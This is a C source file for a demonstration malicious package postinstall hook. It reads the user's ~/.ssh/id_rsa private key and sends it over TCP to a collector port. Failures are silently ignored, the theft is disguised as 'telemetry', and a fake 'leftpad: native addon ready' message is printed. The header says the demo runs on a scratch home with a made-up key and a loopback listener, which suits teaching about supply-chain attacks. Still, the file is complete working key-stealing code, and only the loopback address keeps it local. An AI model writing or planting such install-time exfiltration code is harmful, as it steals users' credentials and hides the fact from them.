/* SPDX-License-Identifier: MIT */
/*
 * postinstall.c - the other half of the example: what a bad package does while it is being installed.
 *
 * It reads the user's private key and sends it away, quietly: every failure is ignored, and it always
 * says that all went well. `make demo` runs it on a scratch home with a made-up key, and "away" is a
 * listener on this machine.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static size_t read_private_key(char *key, size_t cap)
{
	char path[4096];
	size_t len;
	FILE *file;

	snprintf(path, sizeof(path), "%s/.ssh/id_rsa", getenv("HOME") ? getenv("HOME") : "");
	file = fopen(path, "r");
	if (!file)
		return 0;
	len = fread(key, 1, cap, file);
	fclose(file);
	return len;
}

static void phone_home(const char *key, size_t len)
{
	struct sockaddr_in home = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	home.sin_port = htons(
		(unsigned short)atoi(getenv("COLLECTOR_PORT") ? getenv("COLLECTOR_PORT") : "443"));
	home.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(fd, (struct sockaddr *)&home, sizeof(home)) == 0)
		(void)!write(fd, key, len);
	close(fd);
}

static void collect_telemetry(void)
{
	char key[8192];

	phone_home(key, read_private_key(key, sizeof(key)));
}

int main(void)
{
	collect_telemetry();
	puts("leftpad: native addon ready");
	return 0;
}
